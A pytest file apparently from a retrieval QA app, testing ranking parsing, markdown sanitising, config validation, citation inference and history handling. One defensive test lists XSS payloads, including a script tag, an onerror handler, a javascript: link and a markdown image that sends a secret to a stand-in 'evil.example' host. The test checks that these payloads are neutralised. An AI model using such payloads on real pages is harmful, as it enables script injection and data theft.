"""Pure parts of the app: ranking parsing, safe rendering, config, citations, history normalisation."""

from __future__ import annotations

import subprocess
import sys
from pathlib import Path

import pytest

from app.config import AppConfig, ConfigError
from app.qa import citations_for, infer_citations, plain_history, retrieval_query
from app.ranking import RankingError, parse_order, two_way
from app.render import inert_markdown
from retrieval.prompt import NO_ANSWER
from retrieval.types import Passage
from settings.paths import Paths


def test_parse_order_with_ties() -> None:
    assert parse_order("b > a = c > d", ["A", "B", "C", "D"]) == [["B"], ["A", "C"], ["D"]]
    assert parse_order("C>A>B", ["A", "B", "C"]) == [["C"], ["A"], ["B"]]


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("", "enter an order"),
        ("A > E > B > C", "unknown candidate"),
        ("A > A > B > C", "more than once"),
        ("A > B", "C missing"),
        ("A >> B > C", "empty place"),
    ],
)
def test_parse_order_errors(text: str, message: str) -> None:
    with pytest.raises(RankingError, match=message):
        parse_order(text, ["A", "B", "C"])


def test_two_way_choices() -> None:
    assert two_way("A is better") == ([["A"], ["B"]], False)
    assert two_way("B is better") == ([["B"], ["A"]], False)
    assert two_way("Tie") == ([["A", "B"]], False)
    assert two_way("Both bad") == ([], True)
    with pytest.raises(RankingError):
        two_way("")


@pytest.mark.parametrize(
    "payload",
    [
        "<script>alert(1)</script>",
        '<img src=x onerror="alert(1)">',
        "[click](javascript:alert(1))",
        "![x](https://evil.example/steal?d=secret)",
        "<https://evil.example/a>",
    ],
)
def test_untrusted_text_is_inert(payload: str) -> None:
    out = inert_markdown(payload)
    assert "<script" not in out and "<img" not in out
    rendered = __import__("markdown_it").MarkdownIt("commonmark", {"html": True}).render(out)
    assert "<a " not in rendered and "<img" not in rendered and "<script" not in rendered


def test_config_rejects_unknown_keys_and_bad_values(tmp_path: Path) -> None:
    paths = Paths(tmp_path)
    (tmp_path / "config.yaml").write_text("k: 6\ntemprature: 0.5\n")
    with pytest.raises(ConfigError, match="unknown config key\\(s\\) temprature"):
        AppConfig.load(paths)
    (tmp_path / "config.yaml").write_text("k: 6\n")
    assert AppConfig.load(paths).k == 6
    assert AppConfig.load(paths, k=3).k == 3
    with pytest.raises(ConfigError, match="num_candidates"):
        AppConfig.load(paths, num_candidates=7)


def _p(rank: int, text: str) -> Passage:
    return Passage(rank, f"c{rank}", f"doc{rank}.md", text, 0.5)


def test_citations_model_inferred_none() -> None:
    passages = [_p(1, "Bananas grow in the tropics."), _p(2, "The Zorbium Tower opened on 14 March 1893.")]
    assert citations_for("It opened in 1893 [2].", passages) == ([2], "model")
    assert citations_for("The Zorbium Tower opened on 14 March 1893.", passages) == ([2], "inferred")
    assert citations_for("Paris is in France.", passages) == ([], "none")
    assert infer_citations(NO_ANSWER, passages) == []


def test_history_normalisation_and_follow_up_query() -> None:
    gradio_history = [
        {"role": "user", "metadata": None, "content": [{"type": "text", "text": "Where is the tower?"}]},
        {"role": "assistant", "content": "In Kelvale."},
        {"role": "assistant", "content": "   "},
    ]
    turns = plain_history(gradio_history)
    assert turns == [
        {"role": "user", "content": "Where is the tower?"},
        {"role": "assistant", "content": "In Kelvale."},
    ]
    assert retrieval_query("and when did it open?", turns) == "Where is the tower? and when did it open?"
    assert retrieval_query("first question", []) == "first question"


def test_app_import_path_stays_light() -> None:
    """Importing the app (CLI, UI, QA) must not import torch, trl, peft or bitsandbytes."""
    code = (
        "import sys, app.cli, app.ui, app.qa, app.services;"
        "bad = [m for m in ('torch', 'trl', 'peft', 'bitsandbytes', 'transformers') if m in sys.modules];"
        "print(bad); sys.exit(1 if bad else 0)"
    )
    proc = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=120)
    assert proc.returncode == 0, proc.stdout + proc.stderr


def test_inferred_citation_survives_an_added_made_up_sentence() -> None:
    passages = [_p(1, "Quoitball teams have seven players. A match lasts three periods."), _p(2, "Bananas.")]
    answer = "A quoitball team consists of seven players. The Quoits Ball Team is a group of eight people who play."
    assert citations_for(answer, passages) == ([1], "inferred")
    # A single shared word in a sentence is not enough to claim a source.
    assert citations_for("Teams win. Players lose.", passages) == ([], "none")


def test_markdown_block_syntax_is_defused() -> None:
    out = inert_markdown("# Title\n- item\n1. first\n---\n> quote")
    assert out.splitlines() == ["\\# Title", "\\- item", "1\\. first", "\\---", "&gt; quote"]
    assert inert_markdown("price # 5") == "price # 5"  # only at the start of a line


def test_gguf_off_unquoted_in_config_yaml_means_off(tmp_path: Path) -> None:
    """YAML 1.1 reads `gguf: off` as false; it must mean "off", not a bad value."""
    paths = Paths(tmp_path)
    (tmp_path / "config.yaml").write_text("gguf: off\n")
    assert AppConfig.load(paths).gguf == "off"
    (tmp_path / "config.yaml").write_text("gguf: q4_k\n")
    with pytest.raises(ConfigError, match="gguf must be one of"):
        AppConfig.load(paths)
